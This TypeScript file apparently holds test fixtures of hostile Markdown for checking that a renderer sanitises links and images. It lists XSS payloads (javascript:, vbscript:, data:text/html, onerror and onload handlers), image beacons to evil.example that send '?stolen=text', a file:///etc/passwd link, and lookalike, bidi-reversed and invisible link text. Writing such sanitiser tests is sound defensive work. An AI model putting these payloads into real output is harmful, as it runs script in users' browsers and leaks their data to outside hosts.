/** Answers whose links and pictures lead where they should not. */
export const ADDRESSES: Record<string, string> = {
  'a script as a link': '[press](javascript:window.ran=1)',
  'a script in capitals': '[press](JaVaScRiPt:window.ran=1)',
  'a script with a tab': '[press](java\tscript:window.ran=1) [press](<java\nscript:window.ran=1>)',
  'a script in references':
    '[press](javascript&#58;window.ran=1) [press](&#x6A;avascript:window.ran=1) [press](javascript&colon;window.ran=1)',
  'a script with percent signs': '[press](javascript%3Awindow.ran=1)',
  'a script before a host': '[press](javascript://evil.example/%0Awindow.ran=1)',
  'a script in angles': '<javascript:window.ran=1> [press](<javascript:window.ran=1>)',
  'a script with a control character':
    '[press](\u0001javascript:window.ran=1) [press](\u00a0javascript:window.ran=1)',
  'a script by definition': '[press][x]\n\n[x]: javascript:window.ran=1 "title"',
  'a definition that comes twice': '[x]: https://example.org/\n[x]: javascript:window.ran=1\n\n[x]',
  'a script of the old kind': '[press](vbscript:window.ran=1) [press](livescript:window.ran=1)',
  'a page as data':
    '[press](data:text/html,<script>window.ran=1</script>) [press](data:text/html;base64,PHNjcmlwdD4=)',
  'a blob and a file':
    '[press](blob:https://evil.example/1) [press](file:///etc/passwd) [press](filesystem:https://evil.example/x)',
  'other programs':
    '[call](tel:+1900) [open](ms-word:ofe|u|https://evil.example/) [show](view-source:https://evil.example/) [ask](intent://x#Intent;end)',
  'pages of this service':
    '[press](/owner#token) [press](../admin) [press](?x=1) [press](#main) [press](//evil.example/)',
  'a host that is another':
    '[https://good.example/](https://evil.example/) [good.example](https://good.example@evil.example/)',
  'a host in other letters': '[аpple.com](https://аpple.com/) https://xn--80ak6aa92e.example',
  'a quote in an address':
    '[press](https://example.org/"onmouseover="window.ran=1) [press](https://example.org/ "\\" onmouseover=window.ran=1")',
  'a name and a password': 'https://user:password@evil.example/ and user@evil.example',
  'a picture': '![a picture](https://evil.example/beacon.png?stolen=text "title")',
  'a picture by definition': '![a picture][p]\n\n[p]: https://evil.example/beacon.png',
  'a picture as data':
    '![x](data:image/svg+xml,<svg onload="window.ran=1"/>) ![x](data:text/html,<script>window.ran=1</script>)',
  'a picture that is a script': '![x](javascript:window.ran=1) ![x](x" onerror="window.ran=1)',
  'a picture of this service': '![x](/api/v1/session) ![x](//evil.example/x.png)',
  'a picture in a link': '[![x](https://evil.example/in.png)](https://evil.example/out)',
  'a picture in a heading, a table and a list':
    '# ![x](https://evil.example/h.png)\n\n| ![x](https://evil.example/t.png) |\n|---|\n| ![x](https://evil.example/c.png) |\n\n- ![x](https://evil.example/l.png)',
  'an address without end': `[press](https://evil.example/${'a'.repeat(20_000)})`,
  'addresses written out':
    'https://evil.example/*a*_b_ www.evil.example ftp://evil.example mailto:a@evil.example?bcc=b@evil.example',
  'a mail with a script': '[write](mailto:x@evil.example?body=<script>window.ran=1</script>)',
  'words that turn':
    '[https://good.example/\u202emoc.live\u202c](https://evil.example/) \u2066\u202etext\u2069 end',
  'nothing to see':
    '[\u200b](https://evil.example/) [ ](https://evil.example/) [\u2063](https://evil.example/)',
}
